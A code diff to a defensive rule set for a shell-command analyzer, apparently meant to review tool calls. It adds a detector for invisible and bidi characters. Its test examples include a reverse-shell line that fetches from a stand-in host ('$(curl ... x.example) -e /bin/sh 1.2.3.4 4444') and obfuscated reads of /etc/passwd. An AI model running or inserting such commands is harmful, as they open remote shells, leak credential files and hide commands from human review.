@@ -1,5 +1,6 @@
 import { ruleAnalyzer, type Rule } from '../rule.js';
 import { shellQuote } from '../toolcall.js';
+import { hasInvisible } from '../shell/view.js';
 
 const nested = (layers: number): string => {
   let s = 'ls';
@@ -32,6 +33,12 @@ export const PARSER_RULES: readonly Rule[] = [
     message: 'The command name is computed at run time and could not be resolved', why: 'Building the name of the program to run from variables or substitutions hides it from review.',
     test: (c) => (c.dynamic[0] && !/^\$\{?(EDITOR|VISUAL|PAGER|SHELL|CC|CXX|PYTHON|NODE|NPM|MAKE|BROWSER|GIT|JAVA|JAVA_HOME|GOPATH|HOME|PWD|CARGO|DOCKER|KUBECTL)\b/.test(c.argv[0] ?? '') && !/^"?\$\{?[0-9@*]/.test(c.argv[0] ?? '') && !/^\$\{?[a-z_]+\}?$/.test(c.argv[0] ?? '') ? c.argv[0] : undefined),
     examples: { fire: ['$(curl -s http://x.example/n) -e /bin/sh 1.2.3.4 4444', '`cat /tmp/n` --x'], quiet: ['$EDITOR README.md', '"$@"', 'for f in *; do $cmd "$f"; done'] },
+  },
+  {
+    id: 'PX-PARSE-005', name: 'invisible-characters-in-command', score: 40, tactic: 'defense_evasion', technique: 'T1036',
+    message: 'The command contains invisible or direction-changing characters', why: 'Zero-width and bidi characters make a command read differently to a reviewer than to the shell.',
+    test: (c) => (c.argv.some(hasInvisible) ? c.argv.join(' ').replace(/[\u200b-\u200f\u202a-\u202e\u2060-\u2064\ufeff]/g, '⟨?⟩') : undefined),
+    examples: { fire: ['nm\u200bap -sV target.example', 'cat /etc/pass\u202ewd'], quiet: ['echo "naïve café"', 'ls -la'] },
   },
 ];
 
